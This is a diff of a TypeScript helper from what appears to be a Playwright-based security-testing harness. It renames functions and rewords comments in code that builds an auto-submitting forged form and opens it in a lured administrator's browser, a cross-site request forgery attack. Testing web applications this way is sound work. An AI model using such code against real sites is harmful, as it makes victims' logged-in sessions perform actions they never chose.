@@ -2,19 +2,19 @@ import type { Page } from "playwright-core";
 import type { Target } from "./attack.ts";
 import { type Host, withLuredPage } from "./lure.ts";
 
-/** A form that sends itself as soon as somebody opens the page that it is on. */
+/** A form that is submitted as soon as its page is opened. */
 export interface ForgedForm {
   action: URL;
   fields: Record<string, string>;
   encoding?: "application/x-www-form-urlencoded" | "multipart/form-data" | "text/plain";
-  /** Where the page is. */
+  /** The host of the page. */
   host: Host;
 }
 
 /**
- * An administrator opens the attacker's page, and their browser sends the form.
+ * Opens the attacker's page in the browser of an administrator, which submits the form.
  *
- * @param look sees what has become of it, in the same browser
+ * @param look inspects the result in the same browser
  */
 export function submitForgedForm<Result>(
   { browser, cookies }: Target,
@@ -22,7 +22,7 @@ export function submitForgedForm<Result>(
   look: (page: Page) => Promise<Result>,
 ): Promise<Result> {
   const { host, action } = form;
-  return withLuredPage({ browser, cookies, host, html: htmlOf(form) }, async (page, address) => {
+  return withLuredPage({ browser, cookies, host, html: toHtml(form) }, async (page, address) => {
     const answering = page.waitForResponse(
       (response) => response.request().method() === "POST" && response.url() === action.href,
     );
@@ -33,12 +33,13 @@ export function submitForgedForm<Result>(
   });
 }
 
-function htmlOf({ action, fields, encoding = "application/x-www-form-urlencoded" }: ForgedForm) {
+function toHtml({ action, fields, encoding = "application/x-www-form-urlencoded" }: ForgedForm) {
   const inputs = Object.entries(fields).map(
-    ([name, value]) => `<input type="hidden" name="${escaped(name)}" value="${escaped(value)}">`,
+    ([name, value]) =>
+      `<input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}">`,
   );
   return `<form method="post" action="${action.href}" enctype="${encoding}">${inputs.join("")}</form>
     <script>document.forms[0].submit()</script>`;
 }
 
-const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
+const escapeHtml = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
